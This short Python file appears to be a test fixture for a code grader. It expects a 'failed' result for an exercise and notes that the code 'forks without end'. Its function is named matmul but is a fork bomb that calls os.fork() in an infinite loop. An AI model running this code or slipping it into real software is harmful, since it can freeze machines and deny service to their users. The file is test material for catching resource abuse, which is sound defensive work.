# exercise = 1
# expect = "failed"
# tries = "forks without end"

import os


def matmul(a, b):
    while True:
        os.fork()
